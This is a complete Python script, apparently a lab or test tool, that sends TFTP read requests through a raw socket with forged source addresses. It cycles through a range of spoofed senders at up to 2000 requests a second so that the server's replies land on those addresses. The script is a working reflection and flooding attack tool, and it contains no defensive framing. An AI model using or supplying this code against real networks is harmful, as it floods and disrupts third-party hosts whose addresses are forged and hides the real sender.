#!/usr/bin/python3
"""tftp_spoof.py - TFTP read requests with forged source addresses.

Sends --count RRQs for --file to --server:69 through a raw socket, the
source addresses taken in turn from --sources addresses counting up from
--src (one address by default), each from its own source port, --rate a
second at most. Nothing is received: the replies go to the forged
addresses. Needs root (a raw socket) in the namespace it runs in.
"""
import argparse, ipaddress, socket, struct, sys, time

def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff

def packet(src, dst, sport, payload):
    udp_len = 8 + len(payload)
    pseudo = struct.pack("!4s4sBBH", src, dst, 0, 17, udp_len)
    udp = struct.pack("!HHHH", sport, 69, udp_len, 0) + payload
    csum = checksum(pseudo + udp) or 0xffff
    udp = udp[:6] + struct.pack("!H", csum) + udp[8:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, 0, 0, 64, 17, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + udp

def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--server", default="192.0.2.1")
    ap.add_argument("--src", required=True, help="first forged source address")
    ap.add_argument("--sources", type=int, default=1)
    ap.add_argument("--count", type=int, default=700)
    ap.add_argument("--file", required=True)
    ap.add_argument("--mode", default="octet")
    ap.add_argument("--rate", type=float, default=2000, help="requests per second at most")
    a = ap.parse_args()
    base = ipaddress.IPv4Address(a.src)
    dst = socket.inet_aton(a.server)
    rrq = b"\0\x01" + a.file.encode() + b"\0" + a.mode.encode() + b"\0"
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    start = time.time()
    for i in range(a.count):
        src = socket.inet_aton(str(base + (i % a.sources)))
        s.sendto(packet(src, dst, 20000 + i % 40000, rrq), (a.server, 0))
        ahead = (i + 1) / a.rate - (time.time() - start)
        if ahead > 0:
            time.sleep(ahead)
    print("sent %d requests from %d address%s" % (a.count, a.sources, "" if a.sources == 1 else "es"))
    return 0

if __name__ == "__main__":
    sys.exit(main())
